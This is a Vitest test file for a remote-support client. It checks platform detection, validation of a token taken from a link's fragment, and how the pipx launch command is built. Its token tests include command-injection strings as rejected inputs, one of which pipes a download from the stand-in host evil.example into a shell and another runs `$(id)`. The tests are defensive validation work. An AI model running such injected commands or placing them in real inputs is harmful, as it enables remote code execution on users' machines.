import { describe, expect, it } from "vitest"
import { fetched, platform, startOf, tokenOf } from "./program"

const TOKEN = "Ab0-_".repeat(5)

describe("the platform", () => {
  it.each([
    ["Win32", "windows"],
    ["MacIntel", "mac"],
    ["Linux x86_64", "linux"],
    ["FreeBSD amd64", "linux"],
  ])("%s is %s", (named, found) => expect(platform(named)).toBe(found))
})

describe("the token of a link", () => {
  it("is what the server makes", () => expect(tokenOf(`#${TOKEN}`)).toBe(TOKEN))

  it.each([
    ["", "nothing"],
    ["#", "nothing"],
    ["#short", "too short"],
    [`#${"x".repeat(129)}`, "too long"],
    [`#${TOKEN}"; curl evil.example | sh; "`, "more commands"],
    [`#${TOKEN}$(id)`, "more commands"],
    [`#${TOKEN}\n`, "another line"],
    [`#${TOKEN}%22`, "a quote in disguise"],
    [`#${"é".repeat(20)}`, "other letters"],
  ])("is not %j: %s", (fragment) => expect(tokenOf(fragment)).toBeNull())
})

describe("the command", () => {
  const origin = "https://help.example:8443"

  it("takes the program from the server, with its digest, and asks for the rest", () =>
    expect(startOf(fetched(origin, "/client/w.whl#sha256=ab"), origin)).toBe(
      `pipx run --spec "deskside-client @ ${origin}/client/w.whl#sha256=ab" rs-client --server "${origin}"`,
    ))

  it("is short for the single file", () =>
    expect(startOf("./rs-client", origin)).toBe(`./rs-client --server "${origin}"`))
})
